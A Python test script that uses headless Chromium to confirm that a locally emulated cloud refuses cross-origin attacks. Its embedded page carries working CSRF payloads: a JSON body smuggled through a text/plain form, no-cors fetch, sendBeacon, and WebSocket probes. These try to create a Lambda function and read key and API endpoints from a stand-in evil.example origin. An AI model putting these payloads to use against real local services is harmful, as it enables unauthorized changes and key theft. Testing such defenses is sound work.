"""What a web page can do to a developer's machine, tried with a real browser: headless Chromium.

A page of another port and a page of another name ask a local cloud for what a page may send without asking
first, and for what it would like to read. Then nothing is there and nothing was read. A page of the origin that the
user named reads the APIs. The same request without a
browser works, so it is the browser's headers that are refused. `--find` only says which browser it would take.
"""

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from local import Cloud, run

DEADLINE = 90  # seconds, on a busy machine
EVIL, SHOP = "evil.example", "shop.example"
NAMES = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"]

PAGE = """<!doctype html><meta charset=utf-8><title>attacks</title><script>
const {write, body, read, socket} = TARGETS;
const url = name => write + "?by=" + name;
const made = name => JSON.stringify({...body, FunctionName: body.FunctionName + "-" + name});

function form(name) {
  // A form of text/plain sends NAME=VALUE: the equals sign goes into a field that is not looked at.
  const text = made(name);
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = form.target = "frame";
  Object.assign(form, {method: "POST", action: url(name), enctype: "text/plain"});
  const input = document.createElement("input");
  input.name = text.slice(0, -1) + ',"Description":"';
  input.value = '"}';
  form.append(input);
  document.body.append(frame, form);
  return new Promise(done => { frame.onload = done; form.submit(); });
}

async function attack() {
  const plain = {method: "POST", headers: {"content-type": "text/plain"}};
  await fetch(url("fetch"), {...plain, mode: "no-cors", body: made("fetch")});
  await fetch(url("cors"), {...plain, body: made("cors")}).catch(() => 0);
  navigator.sendBeacon(url("beacon"), made("beacon"));
  await form("form");
  const found = {};
  for (const address of read) {
    found[address] = await fetch(address).then(answer => answer.text(), () => null);
  }
  found[socket] = await new Promise(done => {
    const opened = new WebSocket(socket);
    opened.onopen = () => done("open");
    opened.onerror = () => done(null);
  });
  return found;
}
const tell = found => fetch("/", {method: "POST", body: JSON.stringify(found)});
addEventListener("load", () => attack().catch(String).then(tell));
</script><body></body>"""


def chromium():
    name = os.environ.get("CHROMIUM") or next(filter(shutil.which, NAMES), None)
    return name or sys.exit(f"no browser: install Chromium, or set CHROMIUM to one ({', '.join(NAMES)} are looked for)")


@contextlib.contextmanager
def browser(*arguments):
    """Chromium with an empty profile, for which another site's name leads here."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [
            chromium(), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", f"--user-data-dir={profile}",
            # Nothing of the outside is asked for.
            f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {SHOP} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE localhost, "
            "EXCLUDE 127.0.0.1",
        ]
        process = subprocess.Popen([*command, *arguments], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            yield process
        finally:
            process.terminate()
            process.communicate()


def shown(address):
    """The page at the address, after its scripts have run."""
    with browser("--virtual-time-budget=10000", "--dump-dom", address) as process:
        return process.communicate(timeout=DEADLINE)[0]


class Attacker:
    """Serves the attacking page and takes what it found."""

    def __init__(self):
        self.told, attacker = threading.Event(), self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(PAGE.replace("TARGETS", json.dumps(attacker.targets)).encode())

            def do_POST(self):
                attacker.found = json.loads(self.rfile.read(int(self.headers["content-length"])))
                self.answer(b"")
                attacker.told.set()

            def answer(self, body):
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def attack_from(self, name):
        self.told.clear()
        with browser("--remote-debugging-port=0", f"http://{name}:{self.port}/") as process:
            if not self.told.wait(DEADLINE):
                process.terminate()
                sys.exit(f"the page told nothing in {DEADLINE} s: {process.communicate()[1]}")
        return self.found


def ask(method, address, body=None):
    """A request of a program: its status and text."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(address, data, {"content-type": "text/plain"}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=DEADLINE) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def expect(condition, what):
    if not condition:
        sys.exit(f"not so: {what}")
    print(f"as it should be: {what}", flush=True)


def check(addresses, attacker):
    functions = f"{addresses['endpoint']}/2015-03-31/functions"
    apis = [addresses[name] for name in ("orders", "inventory", "relay", "payments")]
    documents = [f"{api}/api/openapi.json" for api in apis]
    faults, keys = f"{addresses['endpoint']}/_trackops/faults", f"{addresses['issuer']}/.well-known/jwks.json"
    reads = [f"{functions}/", faults, keys, *documents]
    archive = "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="  # an empty one
    body = {"FunctionName": "evil", "Runtime": "provided.al2023", "Handler": "bootstrap", "Code": {"ZipFile": archive},
            "Role": "arn:aws:iam::000000000000:role/any"}
    socket = f"ws{addresses['endpoint'].removeprefix('http')}/_aws/execute-api/none/v1"
    attacker.targets = {"write": functions, "body": body, "read": reads, "socket": socket}

    def made():
        return re.findall(r'"FunctionName": ?"(evil[^"]*)"', ask("GET", f"{functions}/")[1])

    for name in ("localhost", EVIL):
        found = attacker.attack_from(name)
        expect(set(found) == {*reads, socket}, f"the page of {name} tried everything")
        expect(not any(found.values()), f"the page of {name} read nothing")
        expect(made() == [], f"the page of {name} made no function")

    found = attacker.attack_from(SHOP)
    expect({address for address in found if found[address]} == set(documents), "CorsOrigin's page read the APIs alone")
    expect(made() == [], "and it made no function")

    for address in reads:
        page = shown(address.replace("127.0.0.1", EVIL))
        expect("The Host header was refused" in page, f"{address} refuses a page whose name was made to lead there")
        expect(ask("GET", address)[0] == 200, f"{address} answers a program")
    expect(ask("POST", f"{functions}?by=fetch", body)[0] == 201, "a program makes the function that no page could make")
    expect(made() == ["evil"], "it is there")
    ask("DELETE", f"{functions}/evil")
    for api in apis:
        page = shown(f"{api}/api/docs")
        expect("opblock-summary-path" in page, f"{api}/api/docs shows its operations in the browser")


def main():
    if sys.argv[1:] == ["--find"]:
        return print(chromium())
    attacker = Attacker()
    with Cloud("browser", "--faults", "--parameter", f"CorsOrigin=http://{SHOP}:{attacker.port}") as cloud:
        check(cloud.addresses, attacker)


if __name__ == "__main__":
    run(main)
